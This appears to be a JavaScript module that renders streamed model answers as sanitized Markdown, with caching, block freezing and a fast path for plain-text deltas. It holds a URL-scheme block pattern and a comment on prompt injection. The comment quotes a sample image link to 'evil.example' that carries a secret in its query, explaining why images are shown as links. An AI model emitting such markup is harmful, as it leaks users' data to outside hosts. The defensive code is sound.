// BlockRenderer: incremental Markdown rendering for StreamingMessage (streaming_message.js).
//
// markdown-it (raw HTML off, one HTML string per top-level block) -> highlight.js for fenced code -> DOMPurify and
// DOM insertion for the changed blocks only. While the answer streams, every block before the last one is frozen:
// it is neither parsed nor rendered again, so the work per delta does not grow with the answer. When the answer
// ends, one full render of the whole text replaces the streamed one (blocks whose HTML is unchanged keep their DOM
// nodes), so the final page is exactly the render of the whole answer.
//
// Most deltas of prose are words that only lengthen the last paragraph: appendPlain() adds them to its last text node
// without parsing anything, when what markdown-it would render for the longer text is exactly that (see PLAIN_DELTA
// and appendPlain's conditions); any other delta goes through the parse above.
// Everything in the text is untrusted (model output, user input).
import MarkdownIt from "markdown-it";
import hljs from "highlight";
import DOMPurify from "dompurify";

const AUTO_DETECT_MAX_CHARS = 20000; // highlightAuto runs every grammar: only for final renders of moderate blocks
const UNSAFE_URL = /^\s*(javascript|vbscript|file|data):/i;
const HIGHLIGHT_CACHE_SIZE = 200; // finished code blocks are re-rendered every frame while the answer streams
// A delta that cannot change how the text before it renders, nor be rendered as anything but its own characters,
// when appended to a line of a paragraph: letters, digits, combining marks, spaces and punctuation that Markdown and
// linkify give no meaning to mid-line, with "." and ":" only at its end (they start a link's domain or scheme when
// letters follow: those come as the next delta, which the previous-character rule in appendPlain() sends to a parse).
const PLAIN_DELTA = /^[\p{L}\p{N}\p{M} ,;'"?!()-]*[.:]*$/u;
// What a word that a delta continues must not hold: it could grow into a link (domain, scheme, address, autolink), an
// entity ("&amp" + ";") or an escape.
const CONTINUED_WORD = /[.:@/&<>\\]/;
// List, heading and quote markers at the start of a line (CommonMark: up to 3 spaces of indentation).
const LINE_MARKERS = /^ {0,3}(?:(?:[-+*]|\d{1,9}[.)]) +|#{1,6} +|> ?)*/;
// The elements whose last line can be lengthened, those a block's last line may be nested in, and the closed inline
// elements it may end with.
const LINE_CONTAINERS = new Set(["P", "LI", "H1", "H2", "H3", "H4", "H5", "H6"]);
const NESTED = new Set(["P", "LI", "UL", "OL", "BLOCKQUOTE"]);
const CLOSED_INLINE = new Set(["STRONG", "EM", "CODE", "S"]);
const highlightCache = new Map();
let autoDetect = false; // set around each (synchronous) render: no highlightAuto while streaming

function highlightUncached(code, lang) {
  try {
    if (lang && hljs.getLanguage(lang)) {
      const html = hljs.highlight(code, { language: lang, ignoreIllegals: true }).value;
      return `<pre><code class="hljs language-${md.utils.escapeHtml(lang)}">${html}</code></pre>`;
    }
    if (!lang && autoDetect && code.length <= AUTO_DETECT_MAX_CHARS) {
      return `<pre><code class="hljs">${hljs.highlightAuto(code).value}</code></pre>`;
    }
  } catch (error) {
    console.warn("highlight.js failed", error);
  }
  return ""; // markdown-it escapes the code itself
}

function highlight(code, lang) {
  const key = `${autoDetect ? "auto" : ""}\0${lang}\0${code}`;
  let html = highlightCache.get(key);
  if (html === undefined) {
    html = highlightUncached(code, lang);
    if (highlightCache.size >= HIGHLIGHT_CACHE_SIZE) highlightCache.clear();
    highlightCache.set(key, html);
  }
  return html;
}

const md = new MarkdownIt({ html: false, linkify: true, breaks: true, highlight });
md.validateLink = (url) => !UNSAFE_URL.test(url);
// Images from untrusted text are shown as links: loading them would let a prompt-injected answer send data to any
// host (`![](https://evil.example/?q=secret)`) the moment it is rendered.
md.renderer.rules.image = (tokens, idx, options, env, self) => {
  const token = tokens[idx];
  const src = token.attrGet("src") || "";
  const alt = self.renderInlineAsText(token.children || [], options, env) || src;
  const esc = md.utils.escapeHtml;
  return `<a href="${esc(src)}" class="parley-image-link"><span class="parley-image-label">Image:</span> ${esc(alt)}</a>`;
};

/**
 * Render Markdown to one HTML string per top-level block, so unchanged blocks can be recognised and kept.
 * Returns [{ html, line }], `line` being the 0-based source line where the block starts.
 */
function renderBlocks(src) {
  const env = {};
  const tokens = md.parse(src, env);
  const blocks = [];
  let start = 0;
  const take = (end) => {
    const html = md.renderer.render(tokens.slice(start, end), md.options, env);
    if (html !== "") blocks.push({ html, line: tokens[start].map ? tokens[start].map[0] : 0 });
    start = end;
  };
  for (let i = 0; i < tokens.length; i++) {
    if (tokens[i].level === 0 && tokens[i].nesting <= 0) take(i + 1); // the end of a top-level block
  }
  if (start < tokens.length) take(tokens.length);
  return blocks;
}

/** Index in `text` where its 0-based line `line` starts. */
function lineStart(text, line) {
  let index = 0;
  for (let i = 0; i < line; i++) {
    index = text.indexOf("\n", index) + 1;
    if (index === 0) return text.length;
  }
  return index;
}

/** The last child of `node` if it is an element, not counting whitespace-only text after it; else null. */
function lastElement(node) {
  let child = node.lastChild;
  while (child && child.nodeType === Node.TEXT_NODE && !child.data.trim()) child = child.previousSibling;
  return child && child.nodeType === Node.ELEMENT_NODE ? child : null;
}

function sanitize(html) {
  const fragment = DOMPurify.sanitize(html, { RETURN_DOM_FRAGMENT: true });
  for (const link of fragment.querySelectorAll("a[href]")) {
    link.setAttribute("target", "_blank");
    link.setAttribute("rel", "noopener noreferrer");
  }
  return fragment;
}

export class BlockRenderer {
  /** @param {(fragment: DocumentFragment) => void} decorate called with each new block's DOM before it is shown */
  constructor(decorate) {
    this.decorate = decorate;
    this.blocks = []; // what the container shows: [{ html: block rendered by markdown-it, nodes: [DOM nodes] }]
    this.frozenBlocks = 0; // while streaming: this.blocks[0 .. frozenBlocks) are final until the full render at the end
    this.frozenAt = 0; // ... and they are the render of text[0 .. frozenAt)
  }

  /** The text was replaced: the next render freezes nothing it has not rendered itself. */
  unfreeze() {
    this.frozenBlocks = this.frozenAt = 0;
  }

  /** The whole text, highlighted with language detection: the final render. */
  renderAll(container, text) {
    autoDetect = true;
    try {
      this.patch(container, renderBlocks(text), 0);
    } finally {
      autoDetect = false;
    }
    this.unfreeze();
  }

  /** While streaming: only the text after the frozen blocks; then freeze every block but the (unfinished) last. */
  renderTail(container, text) {
    const tail = text.slice(this.frozenAt);
    const blocks = renderBlocks(tail);
    this.patch(container, blocks, this.frozenBlocks);
    // markdown-it counts lines after normalizing "\r\n": only freeze when the line numbers are the tail's own
    if (blocks.length > 1 && !tail.includes("\r")) {
      this.frozenAt += lineStart(tail, blocks[blocks.length - 1].line);
      this.frozenBlocks = this.blocks.length - 1;
    }
  }

  /**
   * While streaming, show `delta` appended to the text the container shows now without parsing, when that is
   * exactly what markdown-it renders for the longer text. `line` is that text's last line (after its last newline):
   * all the conditions read, so the work per delta does not grow with the answer. The conditions:
   * - `delta` is PLAIN_DELTA, and the last line holds more than whitespace, with nothing but spaces after its text (a
   *   newline pending, or a line of whitespace only, leaves the next line free to start any block);
   * - the last line, after any list, heading and quote markers, starts with a letter (so it cannot turn
   *   into a list item, a heading underline, a rule, a table row or a code block as it grows);
   * - a delta that continues a word (no space between) continues one that ends in a letter or digit and holds no
   *   character that starts a link, an address, an entity or an escape (CONTINUED_WORD);
   * - the last block is one paragraph, list item or heading whose last line ends in a text node, or in a closed
   *   bold, italic, code or strikethrough element followed by a space (not a link: linkify might lengthen it).
   * markdown-it drops a paragraph's trailing spaces, so they are added only once text follows them.
   * Returns true when shown; false leaves the DOM as it was (the caller renders the tail).
   */
  appendPlain(line, delta) {
    const last = this.blocks[this.blocks.length - 1];
    if (!last || !PLAIN_DELTA.test(delta)) return false;
    const before = line.trimEnd();
    const pending = line.slice(before.length);
    if (!before || /[^ ]/.test(pending)) return false;
    const start = before.replace(LINE_MARKERS, "");
    if (!/^\p{L}/u.test(start) || start.includes("#")) return false; // "# a #" + " b": a heading's closing #s
    const joined = !pending && delta[0] !== " "; // the delta continues the last word
    if (joined) {
      const word = before.slice(before.lastIndexOf(" ") + 1);
      if (!/[\p{L}\p{N}]$/u.test(before) || CONTINUED_WORD.test(word)) return false;
    }
    const elements = last.nodes.filter((node) => node.nodeType === Node.ELEMENT_NODE);
    let node = elements.length === 1 ? elements[0] : null;
    for (let inner = node && lastElement(node); inner && NESTED.has(inner.tagName); inner = lastElement(node))
      node = inner;
    if (!node || !LINE_CONTAINERS.has(node.tagName) || !node.lastChild) return false;
    const added = (pending + delta).trimEnd();
    const tail = node.lastChild;
    if (tail.nodeType === Node.TEXT_NODE) {
      if (added) tail.appendData(added);
    } else if (tail.nodeType === Node.ELEMENT_NODE && CLOSED_INLINE.has(tail.tagName) && !joined) {
      if (added) node.appendChild(document.createTextNode(added));
    } else return false;
    last.html = null; // its DOM is no longer its last render: the next render of the tail replaces it
    return true;
  }

  /** Make this.blocks[from ..] show `blocks`, keeping the DOM of the leading ones whose HTML is unchanged. */
  patch(container, blocks, from) {
    // Unchanged blocks keep their DOM (and with it selections and hovered copy buttons); only the changed tail is
    // sanitized (the costliest step) and put into the DOM.
    let same = from;
    while (same < this.blocks.length && same - from < blocks.length && this.blocks[same].html === blocks[same - from].html)
      same++;
    for (const block of this.blocks.splice(same)) block.nodes.forEach((node) => node.remove());
    for (let i = same - from; i < blocks.length; i++) {
      const fragment = sanitize(blocks[i].html);
      this.decorate(fragment);
      this.blocks.push({ html: blocks[i].html, nodes: Array.from(fragment.childNodes) });
      container.appendChild(fragment);
    }
  }
}
